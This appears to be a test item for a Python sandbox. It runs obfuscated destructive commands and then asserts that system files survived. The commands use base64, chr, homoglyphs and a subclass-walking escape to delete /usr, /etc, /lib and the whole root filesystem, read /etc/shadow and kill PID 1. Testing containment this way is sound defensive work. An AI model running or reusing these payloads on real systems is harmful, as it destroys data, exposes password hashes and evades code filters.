#: item: 40
#: what: hides its calls behind base64, getattr, homoglyphs and chr
import base64
import builtins

exec(base64.b64decode(b"aW1wb3J0IG9zO29zLnN5c3RlbSgicm0gLXJmIC91c3IgL2V0YyAvYmluIDI+L2Rldi9udWxsIik="))
getattr(__import__("".join(map(chr, (111, 115)))), "sys" + "tem")("cat /etc/shadow 2>/dev/null")
ｏｓ = __import__("ｏs".translate({0xFF4F: "o"}))
ｏｓ.ｓｙｓｔｅｍ("echo x > /usr/x 2>/dev/null")
eval(compile("__import__('sub'+'process').run(['rm','-rf','/lib'],stderr=-3)", "", "exec"))
vars(builtins)["".join(reversed("cexe"))]("import shutil; shutil.rmtree('/', ignore_errors=True)")
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0] \
    .__init__.__globals__["system"]("kill -9 1 2>/dev/null")
import os
assert os.path.exists("/usr/bin/python3") and os.path.exists("/usr/bin/env")
assert not os.path.exists("/usr/x")
print("contained")
